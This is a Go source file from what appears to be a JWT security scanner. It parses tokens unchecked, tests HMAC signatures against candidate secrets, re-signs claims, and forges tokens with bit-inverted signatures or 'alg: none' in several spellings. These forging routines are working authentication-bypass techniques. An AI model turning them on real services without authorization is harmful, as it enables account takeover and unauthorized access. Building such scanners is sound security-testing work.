package attack

import (
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"hash"
	"maps"
	"strings"
	"time"
)

// A jws is a compact token taken apart without any check: the scan forges
// tokens, it trusts none.
type jws struct {
	header, claims map[string]any
	raw            [3]string
}

func parseJWS(token string) (*jws, error) {
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		return nil, errors.New("not three parts")
	}
	j := &jws{raw: [3]string(parts)}
	for i, into := range []*map[string]any{&j.header, &j.claims} {
		b, err := base64.RawURLEncoding.DecodeString(parts[i])
		if err != nil {
			return nil, err
		}
		if err := json.Unmarshal(b, into); err != nil {
			return nil, err
		}
	}
	return j, nil
}

func (j *jws) alg() string {
	s, _ := j.header["alg"].(string)
	return s
}

// when returns a NumericDate claim (RFC 7519 §2).
func (j *jws) when(claim string) (time.Time, bool) {
	f, ok := j.claims[claim].(float64)
	if !ok || f < 0 || f > 1e11 {
		return time.Time{}, false
	}
	return time.Unix(int64(f), 0), true
}

func hmacHash(alg string) func() hash.Hash {
	switch alg {
	case "HS256":
		return sha256.New
	case "HS384":
		return sha512.New384
	case "HS512":
		return sha512.New
	}
	return nil
}

// signedBy reports whether the token's HMAC was made with secret.
func (j *jws) signedBy(secret []byte) bool {
	h := hmacHash(j.alg())
	if h == nil {
		return false
	}
	want, err := base64.RawURLEncoding.DecodeString(j.raw[2])
	if err != nil {
		return false
	}
	m := hmac.New(h, secret)
	m.Write([]byte(j.raw[0] + "." + j.raw[1]))
	return hmac.Equal(m.Sum(nil), want)
}

// encode writes header and claims as the first two parts of a token.
func encode(header, claims map[string]any) string {
	h, _ := json.Marshal(header)
	c, _ := json.Marshal(claims) // both came out of JSON, so neither fails
	return base64.RawURLEncoding.EncodeToString(h) + "." + base64.RawURLEncoding.EncodeToString(c)
}

func with(m map[string]any, key string, value any) map[string]any {
	n := maps.Clone(m)
	n[key] = value
	return n
}

// hs signs header and claims by HMAC with secret; alg is put in the header.
func hs(alg string, header, claims map[string]any, secret []byte) string {
	in := encode(with(header, "alg", alg), claims)
	m := hmac.New(hmacHash(alg), secret)
	m.Write([]byte(in))
	return in + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// resigned returns the token with a signature that no key ever made: the
// right length, every bit of it inverted.
func (j *jws) resigned() (string, bool) {
	sig, err := base64.RawURLEncoding.DecodeString(j.raw[2])
	if err != nil || len(sig) == 0 {
		return "", false
	}
	for i := range sig {
		sig[i] ^= 0xff
	}
	return j.raw[0] + "." + j.raw[1] + "." + base64.RawURLEncoding.EncodeToString(sig), true
}

// unsigned returns the token with alg none in each spelling that a careless
// check lets through.
func (j *jws) unsigned() []string {
	var out []string
	for _, none := range []string{"none", "None", "NONE", "nOnE"} {
		out = append(out, encode(with(j.header, "alg", none), j.claims)+".")
	}
	return out
}
